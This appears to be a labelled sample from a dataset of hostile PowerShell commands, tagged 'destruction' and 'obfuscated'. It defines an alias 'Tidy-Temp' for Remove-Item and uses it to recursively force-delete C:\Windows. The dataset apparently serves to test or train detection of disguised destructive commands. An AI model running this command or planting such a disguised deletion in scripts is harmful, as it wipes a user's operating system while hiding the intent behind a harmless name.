# description: Aliases Remove-Item to a harmless name with Set-Alias and deletes C:\Windows with it.
# family: destruction
# obfuscated: yes
Set-Alias -Name Tidy-Temp -Value Remove-Item
Tidy-Temp -Path C:\Windows -Recurse -Force
